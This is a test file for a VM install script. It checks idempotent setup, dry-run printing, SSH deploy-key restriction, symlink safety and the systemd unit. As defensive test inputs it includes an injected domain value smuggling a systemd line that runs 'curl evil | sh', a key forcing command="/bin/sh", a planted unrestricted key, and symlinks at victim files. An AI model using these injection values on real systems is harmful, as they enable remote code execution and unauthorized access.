// scripts/install-vm.sh tried under a temporary root: what it writes, that a second run changes nothing, that it only
// prints what would change this machine, that it writes through no symbolic link another user could plant, and the
// deploy key's restricted line; and the systemd unit it installs.
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import test, { type ExecutionContext } from 'ava';
import { command, ROOT } from './helpers/lambda.js';

const SCRIPT = path.join(ROOT, 'scripts', 'install-vm.sh');
const DEPLOY_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHxv1dQ9jv2D0cmqDZ8Yxq2Y0s2bq3QKc2n5Wv3t2x1k ci@example';

/** Every path under the root with its type, mode and, for files, a hash of the content. */
function listing(root: string): string[] {
  const lines: string[] = [];
  const walk = (dir: string): void => {
    for (const name of fs.readdirSync(dir).sort()) {
      const full = path.join(dir, name);
      const stat = fs.lstatSync(full);
      const hash = stat.isFile() ? crypto.createHash('sha256').update(fs.readFileSync(full)).digest('hex') : '';
      lines.push(`${path.relative(root, full)} ${stat.isDirectory() ? 'd' : 'f'} ${(stat.mode & 0o7777).toString(8)} ${hash}`);
      if (stat.isDirectory()) walk(full);
    }
  };
  walk(root);
  return lines;
}

const RECEIVER = 'usr/local/lib/lambda/receive-deploy';
/** True when dpkg lists the package as installed on this machine (the script then leaves it alone). */
function hasPackage(name: string): boolean {
  try {
    return execFileSync('dpkg-query', ['-W', '-f=${Status}', name], { encoding: 'utf8' }).includes('install ok installed');
  } catch {
    return false;
  }
}

const HEAD = execFileSync('git', ['-C', ROOT, 'rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();

/** The line the script writes for the deploy key under `root`: no shell, no forwarding, only the receiver. */
const restrictedLine = (root: string, key = DEPLOY_KEY): string => `restrict,command="${fs.realpathSync(root)}/${RECEIVER}" ${key}`;

function tryRoot(t: ExecutionContext): string {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'lambda-install-vm-'));
  t.teardown(() => fs.rmSync(root, { recursive: true, force: true }));
  return root;
}

function install(root: string, env: Record<string, string> = {}) {
  return command('bash', [SCRIPT], { env: { LAMBDA_INSTALL_ROOT: root, LAMBDA_INSTALL_DOMAIN: 'fn.example.com', LAMBDA_INSTALL_DEPLOY_KEY: DEPLOY_KEY, ...env } });
}

test('run twice under a root, the second run changes nothing and every change to this machine is only printed', async (t) => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'lambda-install-vm-'));
  t.teardown(() => fs.rmSync(root, { recursive: true, force: true }));
  const first = await install(root);
  t.is(first.code, 0, first.stderr + first.stdout);
  const afterFirst = listing(root);
  t.is(fs.readFileSync(path.join(root, 'etc/systemd/system/lambda.service'), 'utf8'), fs.readFileSync(path.join(ROOT, 'config/lambda.service'), 'utf8'));
  t.is(fs.readFileSync(path.join(root, 'etc/systemd/system/lambda.service.d/domain.conf'), 'utf8'), '[Service]\nEnvironment=LAMBDA_DOMAIN=fn.example.com\n');
  t.is(
    fs.readFileSync(path.join(root, 'etc/sudoers.d/lambda-deploy'), 'utf8'),
    'lambda-deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart lambda.service, /bin/systemctl restart lambda.service\n',
  );
  t.is(fs.readFileSync(path.join(root, 'home/lambda-deploy/.ssh/authorized_keys'), 'utf8'), `${restrictedLine(root)}\n`);
  t.is(fs.readFileSync(path.join(root, RECEIVER), 'utf8'), fs.readFileSync(path.join(ROOT, 'scripts/receive-deploy.sh'), 'utf8'));
  for (const entry of [
    'opt/lambda d 755',
    'opt/lambda/releases d 755',
    'var/lib/lambda d 700',
    'home/lambda-deploy d 755',
    'home/lambda-deploy/.npm d 700',
    'home/lambda-deploy/.ssh d 755',
    'home/lambda-deploy/.ssh/authorized_keys f 644',
    'etc/sudoers.d/lambda-deploy f 440',
    `${RECEIVER} f 755`,
  ]) {
    t.true(afterFirst.some((line) => line.startsWith(`${entry} `)), `${entry} in ${afterFirst.join('\n')}`);
  }
  // lambda-deploy's login reads only root's files: as root they are root's, as another user the chown is printed.
  for (const part of ['home/lambda-deploy', 'home/lambda-deploy/.ssh', 'home/lambda-deploy/.ssh/authorized_keys']) {
    const file = path.join(fs.realpathSync(root), part);
    t.true(fs.lstatSync(file).uid === 0 || first.stdout.includes(`would run: chown -h root:root ${file}\n`), `${part} is root's`);
  }
  t.false(fs.existsSync(path.join(root, 'opt/lambda/current')), 'the first build is only printed');
  // The go runtime's toolchain is one of the packages: installed when this machine lacks it, else left alone.
  if (hasPackage('golang-go')) t.notRegex(first.stdout, /Installing .*\bgolang-go\b/);
  else t.regex(first.stdout, /Installing .*\bgolang-go\b/);
  t.regex(first.stdout, /would run: runuser -u lambda-deploy -- .*deploy\.sh [0-9a-f]{40} /);
  // Whatever would touch this machine (packages, users, ownership, systemd) is printed, never run.
  for (const line of first.stdout.split('\n').filter((l) => /\b(apt-get|useradd|usermod|chown|systemctl)\b/.test(l) && !l.includes('journalctl'))) {
    t.regex(line, /^\s+would run: /, line);
  }

  const second = await install(root);
  t.is(second.code, 0, second.stderr + second.stdout);
  t.deepEqual(listing(root), afterFirst, 'the second run changed nothing under the root');
  t.notRegex(second.stdout, / (written|made|mode \d+)$/m);
  t.regex(second.stdout, /lambda\.service unchanged/);
  t.regex(second.stdout, /authorized_keys has the deploy key/);
  t.notRegex(second.stdout, /systemctl daemon-reload/, 'no reload when the unit did not change');

  // Once the first build is live (as deploy.sh leaves it), running again builds nothing and deploys nothing.
  fs.mkdirSync(path.join(root, 'opt/lambda/releases', HEAD));
  fs.symlinkSync(`releases/${HEAD}`, path.join(root, 'opt/lambda/current'));
  const built = listing(root);
  const third = await install(root);
  t.is(third.code, 0, third.stderr + third.stdout);
  t.deepEqual(listing(root), built);
  t.regex(third.stdout, new RegExp(`${HEAD} \\(this checkout\\) is already the current build: nothing to build`));
  t.notRegex(third.stdout, /npm (ci|run)|pack\.sh|deploy\.sh|systemctl restart/, 'no npm ci, no build, no deploy, no restart');
});

test('an earlier line for the deploy key is replaced by the restricted one; other keys stay', async (t) => {
  const root = tryRoot(t);
  const other = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOtherOtherOtherOtherOtherOtherOtherOtherOth operator';
  fs.mkdirSync(path.join(root, 'home/lambda-deploy/.ssh'), { recursive: true, mode: 0o700 });
  fs.writeFileSync(path.join(root, 'home/lambda-deploy/.ssh/authorized_keys'), `${DEPLOY_KEY}\n${other}\n`, { mode: 0o600 });
  const result = await install(root);
  t.is(result.code, 0, result.stderr + result.stdout);
  t.is(fs.readFileSync(path.join(root, 'home/lambda-deploy/.ssh/authorized_keys'), 'utf8'), `${other}\n${restrictedLine(root)}\n`);
});

test('an earlier install\'s .ssh of lambda-deploy\'s becomes root\'s: the file is written anew and authorized_keys2 goes', async (t) => {
  const root = tryRoot(t);
  const ssh = path.join(root, 'home/lambda-deploy/.ssh');
  const unrestricted = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilEvilEvilEvilEvilEvilEvilEvilEvilEvil thief';
  fs.mkdirSync(ssh, { recursive: true, mode: 0o700 });
  fs.chmodSync(path.join(root, 'home/lambda-deploy'), 0o700);
  fs.writeFileSync(path.join(ssh, 'authorized_keys'), `${restrictedLine(root)}\n`, { mode: 0o644 });
  // The same lines and mode, but its own file: it could hold it open and write to it later.
  const stranger = os.userInfo().uid === 0 ? 65534 : undefined;
  if (stranger !== undefined) fs.chownSync(path.join(ssh, 'authorized_keys'), stranger, stranger);
  const inode = fs.statSync(path.join(ssh, 'authorized_keys')).ino;
  fs.writeFileSync(path.join(ssh, 'authorized_keys2'), `${unrestricted}\n`, { mode: 0o600 });
  const result = await install(root);
  t.is(result.code, 0, result.stderr + result.stdout);
  t.false(fs.existsSync(path.join(ssh, 'authorized_keys2')), 'the key sshd would also read is gone');
  t.regex(result.stdout, /authorized_keys2 removed/);
  t.is(fs.readFileSync(path.join(ssh, 'authorized_keys'), 'utf8'), `${restrictedLine(root)}\n`);
  if (stranger !== undefined) {
    t.not(fs.statSync(path.join(ssh, 'authorized_keys')).ino, inode, 'a new file, not the one lambda-deploy held');
    t.is(fs.statSync(path.join(ssh, 'authorized_keys')).uid, 0);
  }
  t.is(fs.statSync(ssh).mode & 0o7777, 0o755);
  t.is(fs.statSync(path.join(root, 'home/lambda-deploy')).mode & 0o7777, 0o755);
});

for (const [what, key] of [
  ['options of its own', `command="/bin/sh" ${DEPLOY_KEY}`],
  ['a second line', `${DEPLOY_KEY}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilEvilEvilEvilEvilEvilEvilEvilEvilEvil x`],
  ['no key at all', 'hello'],
] as const) {
  test(`a deploy key with ${what} is refused and nothing is written for it`, async (t) => {
    const root = tryRoot(t);
    const result = await install(root, { LAMBDA_INSTALL_DEPLOY_KEY: key });
    t.is(result.code, 1);
    t.regex(result.stderr, /LAMBDA_INSTALL_DEPLOY_KEY must be one public key line/);
    t.false(fs.existsSync(path.join(root, 'home/lambda-deploy/.ssh/authorized_keys')));
  });
}

test('a symbolic link lambda-deploy planted is not written through: not authorized_keys, not .ssh, not releases/', async (t) => {
  const outside = tryRoot(t);
  const victim = path.join(outside, 'victim');
  const victimDir = path.join(outside, 'victim-dir');
  fs.writeFileSync(victim, 'precious\n', { mode: 0o644 });
  fs.mkdirSync(victimDir, { mode: 0o755 });
  fs.chmodSync(victimDir, 0o755);

  const keysLink = tryRoot(t);
  fs.mkdirSync(path.join(keysLink, 'home/lambda-deploy/.ssh'), { recursive: true, mode: 0o700 });
  fs.symlinkSync(victim, path.join(keysLink, 'home/lambda-deploy/.ssh/authorized_keys'));
  const first = await install(keysLink);
  t.is(first.code, 1, first.stdout);
  t.regex(first.stderr, /\/home\/lambda-deploy\/\.ssh\/authorized_keys is a symbolic link: this script does not write through one/);

  const sshLink = tryRoot(t);
  fs.mkdirSync(path.join(sshLink, 'home/lambda-deploy'), { recursive: true });
  fs.symlinkSync(victimDir, path.join(sshLink, 'home/lambda-deploy/.ssh'));
  const second = await install(sshLink);
  t.is(second.code, 1, second.stdout);
  t.regex(second.stderr, /\/home\/lambda-deploy\/\.ssh is a symbolic link/);

  const releasesLink = tryRoot(t);
  fs.mkdirSync(path.join(releasesLink, 'opt/lambda'), { recursive: true });
  fs.symlinkSync(victimDir, path.join(releasesLink, 'opt/lambda/releases'));
  const third = await install(releasesLink);
  t.is(third.code, 1, third.stdout);
  t.regex(third.stderr, /\/opt\/lambda\/releases is a symbolic link/);

  t.is(fs.readFileSync(victim, 'utf8'), 'precious\n', 'the file the link pointed at is as it was');
  t.is((fs.statSync(victim).mode & 0o7777).toString(8), '644');
  t.deepEqual(fs.readdirSync(victimDir), [], 'nothing written into the folder the link pointed at');
  t.is((fs.statSync(victimDir).mode & 0o7777).toString(8), '755');
});

test('a domain that is not a domain name cannot add lines to the unit', async (t) => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'lambda-install-vm-'));
  t.teardown(() => fs.rmSync(root, { recursive: true, force: true }));
  const result = await install(root, { LAMBDA_INSTALL_DOMAIN: 'fn.example.com\nExecStartPre=/bin/sh -c "curl evil | sh"' });
  t.is(result.code, 1);
  t.regex(result.stderr, /LAMBDA_INSTALL_DOMAIN must be a domain name/);
  t.false(fs.existsSync(path.join(root, 'etc/systemd/system/lambda.service.d/domain.conf')));
});

test('the unit runs the current build with node as the lambda user, with the memory settings, never npm start', (t) => {
  const unit = fs.readFileSync(path.join(ROOT, 'config/lambda.service'), 'utf8');
  const lines = unit.split('\n').filter((line) => line && !line.startsWith('#'));
  for (const line of [
    'User=lambda',
    'WorkingDirectory=/opt/lambda/current',
    'EnvironmentFile=/opt/lambda/current/config/server-memory.env',
    'ExecStart=/usr/bin/node $LAMBDA_NODE_FLAGS dist/server/main.js',
    'Environment=LAMBDA_DATA_DIR=/var/lib/lambda',
    'Environment=LAMBDA_START_DOCKER=0',
    'Requires=docker.service',
    'StartLimitIntervalSec=0',
  ]) {
    t.true(lines.includes(line), line);
  }
  t.false(/npm start/.test(lines.join('\n')));
  // Every variable the memory file sets is one the unit's command or Node reads.
  const memory = fs.readFileSync(path.join(ROOT, 'config/server-memory.env'), 'utf8');
  t.regex(memory, /^LAMBDA_NODE_FLAGS=/m);
  t.regex(memory, /^MALLOC_ARENA_MAX=/m);
  t.regex(memory, /^MALLOC_MMAP_THRESHOLD_=/m);
});
